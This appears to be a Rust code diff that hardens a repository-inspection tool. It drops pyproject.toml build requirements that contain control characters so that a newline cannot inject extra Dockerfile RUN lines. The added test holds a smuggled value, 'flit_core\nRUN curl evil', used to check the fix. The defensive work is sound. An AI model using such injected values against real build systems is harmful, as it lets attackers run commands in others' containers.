@@ -166,9 +166,15 @@ fn facts(files: &RepoFiles) -> Facts {
                         .and_then(|value| value.get("requires"))
                         .and_then(|value| value.as_array())
                     {
-                        facts
-                            .build_requires
-                            .extend(requires.iter().filter_map(|value| value.as_str()).map(String::from));
+                        // A PEP 508 requirement holds no control character; one that does (a
+                        // newline would end the Dockerfile's RUN line) is not a requirement.
+                        facts.build_requires.extend(
+                            requires
+                                .iter()
+                                .filter_map(|value| value.as_str())
+                                .filter(|requirement| !requirement.chars().any(char::is_control))
+                                .map(String::from),
+                        );
                     }
                     if let Some(addopts) = table
                         .get("tool")
@@ -602,5 +608,18 @@ mod tests {
         for path in ["src/setup.py", "docs/requirements.txt", "requirements/sub/x.txt", "README.md"] {
             assert!(!wanted(path), "{path}");
         }
+    }
+
+    #[test]
+    fn a_build_requirement_with_a_newline_never_reaches_the_dockerfile() {
+        let repo = files(&[(
+            "pyproject.toml",
+            "[build-system]\nrequires = [\"setuptools\", \"flit_core\\nRUN curl evil\", \"hatchling\"]\n[project]\nname = \"x\"\n",
+        )]);
+        let spec = infer(&repo, date(2024, 1), &available()).unwrap();
+        let text = spec.pre_install.join("\n");
+        assert!(text.contains("hatchling"), "{text}");
+        assert!(!text.contains("evil"), "{text}");
+        assert!(spec.pre_install.iter().all(|line| !line.contains('\n')), "{:?}", spec.pre_install);
     }
 }
